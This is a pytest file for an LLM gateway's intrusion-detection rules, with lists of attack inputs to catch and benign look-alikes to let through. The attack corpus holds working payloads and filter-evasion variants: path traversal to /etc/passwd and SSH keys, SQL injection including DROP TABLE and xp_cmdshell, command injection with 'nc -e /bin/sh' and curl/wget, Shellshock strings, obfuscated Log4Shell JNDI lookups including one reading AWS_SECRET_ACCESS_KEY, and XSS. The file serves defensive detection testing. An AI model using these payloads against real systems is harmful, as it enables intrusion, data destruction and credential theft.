"""intrusion_rules: each rule against a corpus of attacks (evasions included) and of
legitimate look-alikes, on the input kind it reads; the one-pass matcher agrees with
the rules one by one."""

from __future__ import annotations

import pytest

from flm_gateway.security.intrusion_rules import (
    HEADERS,
    KINDS,
    PATH,
    QUERY,
    RAW,
    RULES,
    USER_AGENT,
    RuleSet,
)

# (rule id, input kind, input as the rule sees it: decoded for path/query, raw otherwise)
ATTACKS: list[tuple[str, str, str]] = [
    ("TRV-001", PATH, "/v1/models/../../etc/x"),
    ("TRV-001", PATH, "/v1/..\\..\\x"),
    ("TRV-001", PATH, "/v1/..;/admin"),
    ("TRV-001", PATH, "/v1/models/.."),
    ("TRV-001", QUERY, "file=../../x"),
    ("TRV-001", QUERY, "a=1&..=2&f=../x"),
    ("TRV-002", RAW, "/v1/%2e%2e/%2E%2E/x"),
    ("TRV-002", RAW, "/v1/.%2e/x"),
    ("TRV-002", RAW, "/v1/%252e%252e/x"),
    ("TRV-002", RAW, "/v1/%25252e/x"),
    ("TRV-002", RAW, "/v1/%c0%ae%c0%ae/x"),
    ("TRV-002", RAW, "/v1/..%2fx"),
    ("TRV-002", RAW, "/v1/..%5Cx"),
    ("TRV-002", RAW, "/v1/%uff0e%uff0e/x"),
    ("TRV-003", PATH, "/static/etc/passwd"),
    ("TRV-003", QUERY, "f=/proc/self/environ"),
    ("TRV-003", QUERY, "f=/proc/1/cmdline"),
    ("TRV-003", QUERY, "f=c:\\windows\\win.ini"),
    ("TRV-003", QUERY, "f=C:/Windows/System32"),
    ("TRV-003", QUERY, "k=/home/u/.ssh/id_ed25519"),
    ("TRV-003", QUERY, "url=file:///etc/hosts"),
    ("TRV-004", RAW, "/v1/models%00.json"),
    ("TRV-004", RAW, "/v1/models%2500"),
    ("SQL-001", QUERY, "id=1 union select password from users"),
    ("SQL-001", QUERY, "id=1 UNION ALL SELECT 1,2"),
    ("SQL-001", QUERY, "id=1/**/UnIoN/**/SeLeCt/**/1"),
    ("SQL-001", QUERY, "id=1\x0bunion\x0bselect 1"),
    ("SQL-001", QUERY, "id=1 union/*!50000select*/ 1"),
    ("SQL-001", QUERY, "id=-1 union(select 1)"),
    ("SQL-001", QUERY, "id=1 union distinct select 1"),
    ("SQL-001", QUERY, "id=1 union#x\nselect 1"),
    ("SQL-001", QUERY, "id=1 union-- x\nselect 1"),
    ("SQL-001", QUERY, "id=1union select 1"),
    ("SQL-001", PATH, "/v1/models/1 union select 1"),
    ("SQL-002", QUERY, "q=x' or '1'='1"),
    ("SQL-002", QUERY, "q=x'or'1'='1"),
    ("SQL-002", QUERY, "q=') or ('a'='a"),
    ("SQL-002", QUERY, "q=x'||'1'='1"),
    ("SQL-002", QUERY, "q=1' or true--"),
    ("SQL-002", QUERY, 'q=" or ""="'),
    ("SQL-002", QUERY, "q=x' AND 1=1"),
    ("SQL-002", QUERY, "q=x'/**/or/**/1=1"),
    ("SQL-002", QUERY, "q=x' or name like '%"),
    ("SQL-002", QUERY, "q=x' or 2>1"),
    ("SQL-003", QUERY, "q=1;drop table users"),
    ("SQL-003", QUERY, "q=1';DROP/**/TABLE/**/users"),
    ("SQL-003", QUERY, "q=1; delete from users"),
    ("SQL-003", QUERY, "q=1');insert into admins values(1)"),
    ("SQL-003", QUERY, "q=1;update users set role=1"),
    ("SQL-003", QUERY, "q=1;exec xp_cmdshell 'dir'"),
    ("SQL-003", QUERY, "q=1;shutdown"),
    ("SQL-003", QUERY, "q=1; declare @x int"),
    ("SQL-004", QUERY, "q=1 and sleep(5)"),
    ("SQL-004", QUERY, "q=1 and SLEEP/**/(5)"),
    ("SQL-004", QUERY, "q=1;select pg_sleep(5)"),
    ("SQL-004", QUERY, "q=1;waitfor delay '0:0:5'"),
    ("SQL-004", QUERY, "q=1 and benchmark(9999999,md5(1))"),
    ("SQL-004", QUERY, "q=dbms_pipe.receive_message(('a'),10)"),
    ("SQL-005", QUERY, "q=select * from information_schema.tables"),
    ("SQL-005", QUERY, "q=@@version"),
    ("SQL-005", QUERY, "q=1 and load_file('/x')"),
    ("SQL-005", QUERY, "q=select 1 into outfile '/tmp/x'"),
    ("SQL-005", QUERY, "q=select name from sqlite_master"),
    ("SQL-005", QUERY, "q=select version()"),
    ("SQL-005", QUERY, "q=exec xp_cmdshell"),
    ("SQL-006", QUERY, "user=admin'--"),
    ("SQL-006", QUERY, "user=admin'#"),
    ("SQL-006", QUERY, "user=admin')/*"),
    ("CMD-001", QUERY, "q=;cat /etc/passwd"),
    ("CMD-001", QUERY, "q=|id"),
    ("CMD-001", QUERY, "q=a\nid"),
    ("CMD-001", QUERY, "q=a\r\nwhoami"),
    ("CMD-001", QUERY, "q=a;/usr/bin/id"),
    ("CMD-001", QUERY, "q=a&&curl http://x"),
    ("CMD-001", QUERY, "q=a||wget http://x"),
    ("CMD-001", QUERY, "q=a;cat${IFS}/etc/hosts"),
    ("CMD-001", QUERY, "q=a|bash"),
    ("CMD-001", QUERY, "q=a; nc -e /bin/sh x 1"),
    ("CMD-001", PATH, "/v1/models;uname"),
    ("CMD-002", QUERY, "q=$(whoami)"),
    ("CMD-002", QUERY, "q=`id`"),
    ("CMD-002", QUERY, "q=a${IFS}b"),
    ("CMD-002", PATH, "/v1/$(reboot)"),
    ("CMD-003", HEADERS, "() { :; }; echo; /bin/bash -c id"),
    ("CMD-003", HEADERS, "() { :;}; /bin/cat /etc/passwd"),
    ("CMD-003", HEADERS, "() { _; } >_[$($())] { echo hi; }"),
    ("CMD-003", HEADERS, "(){ :;};"),
    ("CMD-003", HEADERS, "()   {" + " " * 4000 + "x"),
    ("CMD-003", QUERY, "x=() { :; }; id"),
    ("CMD-003", PATH, "/cgi-bin/x/() { :; };"),
    ("CMD-004", HEADERS, "${jndi:ldap://evil/a}"),
    ("CMD-004", HEADERS, "x ${jndi:rmi://evil/a}"),
    ("CMD-004", HEADERS, "${${lower:j}ndi:ldap://e/a}"),
    ("CMD-004", HEADERS, "${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}"),
    ("CMD-004", HEADERS, "${j${k8s:k5:-ND}i:ldap://e}"),
    ("CMD-004", HEADERS, "${jnd${upper:\u0131}:ldap://e}"),
    ("CMD-004", HEADERS, "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://e}"),
    ("CMD-004", HEADERS, "${ JNDI:ldap://e}"),
    ("CMD-004", HEADERS, "${env:AWS_SECRET_ACCESS_KEY}"),
    ("CMD-004", QUERY, "x=${jndi:ldap://e/a}"),
    ("CMD-004", PATH, "/v1/${jndi:ldap://e/a}"),
    ("XSS-001", QUERY, "q=<script>alert(1)</script>"),
    ("XSS-001", QUERY, "q=< ScRiPt >"),
    ("XSS-001", QUERY, "q=<img src=x onerror=alert(1)>"),
    ("XSS-001", QUERY, "q=<svg/onload=alert(1)>"),
    ("XSS-001", QUERY, "q=<body onpageshow=alert(1)>"),
    ("XSS-001", QUERY, "q=<a href=x onmouseover = alert(1)>"),
    ("XSS-001", QUERY, "q=javascript:alert(1)"),
    ("XSS-001", QUERY, "q=JaVaScRiPt :alert(1)"),
    ("XSS-001", QUERY, "q=data:text/html,<x>"),
    ("XSS-001", PATH, "/v1/<iframe src=x>"),
    ("SCN-001", USER_AGENT, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("SCN-001", USER_AGENT, "Mozilla/5.0 (compatible; Nmap Scripting Engine; nmap.org)"),
    ("SCN-001", USER_AGENT, "Mozilla/5.0 zgrab/0.x"),
    ("SCN-001", USER_AGENT, "Fuzz Faster U Fool v2.1.0-dev"),
    ("SCN-001", USER_AGENT, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("SCN-001", USER_AGENT, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
    ("SCN-001", USER_AGENT, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("SCN-002", PATH, "/index.php"),
    ("SCN-002", PATH, "/admin/login.aspx"),
    ("SCN-002", PATH, "/cgi-bin/test.cgi"),
    ("SCN-002", PATH, "/.git/HEAD"),
    ("SCN-002", PATH, "/wp-content/plugins/x"),
]

# Legitimate inputs that look like attacks; no rule of the kind may match.
BENIGN: list[tuple[str, str]] = [
    # The false positives, each in a header other than User-Agent.
    (HEADERS, "https://example.com/search?q=union+select+tutorial"),
    (HEADERS, "https://example.com/search?q=union select tutorial"),
    (HEADERS, "use `ls -la` and `cat` in the shell"),
    (HEADERS, "$(document).ready(init)"),
    (HEADERS, "nmap"),
    (HEADERS, "scanned with nmap 7.94 and sqlmap"),
    # More of the same kind: headers carry text, URLs and code.
    (HEADERS, "https://x.example/?q=%27+or+1%3D1"),
    (HEADERS, "https://x.example/?q=' or '1'='1"),
    (HEADERS, "https://docs.example.com/linux/etc/passwd-explained"),
    (HEADERS, "https://x.example/a;cat /etc/hosts|sh"),
    (HEADERS, "function() { return 1; }"),
    (HEADERS, "x => () { }"),
    (HEADERS, "<script>alert(1)</script> is how XSS looks"),
    (HEADERS, "Jim's notes; drop by the table"),
    (HEADERS, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (HEADERS, "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    (HEADERS, "userId=alice,serverNode=DF%2028,isProduction=false"),
    (HEADERS, "price ${amount} in a template"),
    (HEADERS, "../../relative/link"),
    (USER_AGENT, "OpenAI/Python 1.99.0"),
    (USER_AGENT, "python-httpx/0.27.0"),
    (USER_AGENT, "curl/8.5.0"),
    (USER_AGENT, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"),
    (USER_AGENT, "Nucleic-acid-tools/1.0"),
    (USER_AGENT, "ollama-python/0.4"),
    # Paths and queries of real LLM clients.
    (PATH, "/v1/chat/completions"),
    (PATH, "/v1/models/hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M"),
    (PATH, "/v1/models/llama3.1:8b-instruct-q4_K_M"),
    (PATH, "/api/version"),
    (PATH, "/api/show"),
    (PATH, "/v1/models/my.model..v2"),
    (PATH, "/openai/deployments/gpt-4o/chat/completions"),
    (RAW, "/v1/files?purpose=fine-tune&limit=10&after=file-abc"),
    (RAW, "/v1/models/a%2Fb"),
    (QUERY, "purpose=fine-tune&limit=10&after=file-abc&order=desc"),
    (QUERY, "api-version=2024-02-01"),
    (QUERY, "fail_on_no_slot=1"),
    (QUERY, "id=5&ls=1&cat=2"),
    (QUERY, "q=rock 'n' roll and 5 > 3"),
    (QUERY, "name=reunion&select=1"),
    (QUERY, "onion=1&onload_ms=3"),
]


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return RuleSet(RULES)


def test_every_rule_has_attacks_in_the_corpus() -> None:
    covered = {rule_id for rule_id, _, _ in ATTACKS}
    assert covered == {rule.id for rule in RULES}
    assert all(any(kind in rule.where for kind in KINDS) for rule in RULES)


@pytest.mark.parametrize(("rule_id", "kind", "text"), ATTACKS)
def test_attack_is_caught(rules: RuleSet, rule_id: str, kind: str, text: str) -> None:
    data = text.encode("utf-8")
    assert rule_id in [rule.id for rule in rules.hits(kind, data)]
    assert rules.scan(kind, data)  # the one-pass pattern agrees


@pytest.mark.parametrize(("kind", "text"), BENIGN)
def test_look_alike_passes(rules: RuleSet, kind: str, text: str) -> None:
    data = text.encode("utf-8")
    assert rules.hits(kind, data) == []
    assert not rules.scan(kind, data)


@pytest.mark.parametrize(
    "rule_id", ["SQL-001", "SQL-002", "SQL-003", "CMD-001", "CMD-002", "TRV-003", "XSS-001"]
)
def test_headers_get_no_sql_shell_or_file_rules(rule_id: str) -> None:
    rule = next(rule for rule in RULES if rule.id == rule_id)
    assert HEADERS not in rule.where and USER_AGENT not in rule.where


def test_headers_are_one_value_per_line(rules: RuleSet) -> None:
    # Shellshock only where a value starts: the second of two joined values counts.
    assert rules.scan(HEADERS, b"text/html\n() { :; }; id")
    assert not rules.scan(HEADERS, b"text/html () { :; }; id")


def test_disabled_rules_are_left_out() -> None:
    rules = RuleSet.without(["CMD-003", "SCN-001"])
    assert not rules.scan(HEADERS, b"() { :; };")
    assert not rules.reads(USER_AGENT)
    assert rules.scan(HEADERS, b"${jndi:ldap://e}")
    assert not RuleSet(()).reads(PATH) and not RuleSet(()).scan(PATH, b"/..")


def test_bytes_that_are_not_utf8_are_read_too(rules: RuleSet) -> None:
    assert rules.scan(QUERY, b"\xff\xfeid=1 union select 1")
    assert rules.scan(HEADERS, b"${\xff${lower:j}ndi:ldap://e}")
